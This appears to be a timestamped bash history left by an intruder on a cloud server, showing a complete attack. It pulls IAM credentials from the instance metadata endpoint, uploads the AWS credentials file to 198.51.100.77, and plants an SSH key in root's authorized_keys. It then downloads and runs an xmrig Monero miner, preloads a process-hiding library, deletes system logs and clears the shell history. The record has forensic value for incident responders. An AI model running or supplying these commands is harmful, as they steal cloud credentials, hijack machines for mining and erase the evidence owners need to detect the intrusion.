#1709280000
id
#1709280020
uname -a
#1709280040
cat /etc/os-release
#1709280060
curl -s http://169.254.169.254/latest/meta-data/iam/info
#1709280080
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
#1709280100
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-web-role
#1709280120
cat /root/.aws/credentials
#1709280140
curl -F "userfile=@/root/.aws/credentials" http://198.51.100.77/up/upload.php
#1709280160
cat /root/.docker/config.json
#1709280180
chattr -ia /root/.ssh/authorized_keys
#1709280200
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3nT9pXk2m0fZcq4Ww1vJ9zB2bHqk4u7yG8r3s5E6cT0aL1dN2fP9hQ7jK8xV3mR5wY6tU1iO4pZ2sA8dF0gH9jK3lZ4xC7vB5nM1qW2eR6tY8uI0oP3aS5dF7gH9jK1lZ3xC5vB7nM9qW0eR2tY4uI6oP8aS0dF2gH4jK6lZ8xC0vB2nM4qW6eR8tY0uI2oP4aS6dF8gH0jK2lZ4xC6vB8nM0qW2eR4tY6uI8oP0aS2dF4gH6jK8lZ0xC2vB4nM6qW8eR0tY2uI4oP6aS8dF0gH2jK4lZ6xC8vB0nM2qW4eR6tY8uI0oP2aS4dF6gH8jK0lZ2xC4vB6nM8qW0eR2tY4uI6oP8 root@localhost" >> /root/.ssh/authorized_keys
#1709280220
chattr +ia /root/.ssh/authorized_keys
#1709280240
mkdir -p /var/tmp/.ICE-unix/.x
#1709280260
cd /var/tmp/.ICE-unix/.x
#1709280280
wget -q http://198.51.100.77/bin/x86_64/xmrig -O /var/tmp/.ICE-unix/.x/xmrig
#1709280300
chmod +x /var/tmp/.ICE-unix/.x/xmrig
#1709280320
/var/tmp/.ICE-unix/.x/xmrig -o pool.supportxmr.com:443 -u 4AYsJqHjr7ytWhzUqoS3bSJbqfvZousaTMw8CdZTNjRyHZurh9HFSRB5QWUXVL1SdP4cz5CvVZ5SBE3Z4Zi9sUqeGqBHxHX -k --tls --donate-level 1 -B
#1709280340
wget -q http://198.51.100.77/bin/libprocesshider.so -O /usr/local/lib/libprocesshider.so
#1709280360
echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload
#1709280380
rm -rf /var/log/syslog /var/log/auth.log
#1709280400
history -c
#1709280420
unset HISTFILE
#1709280440
exit
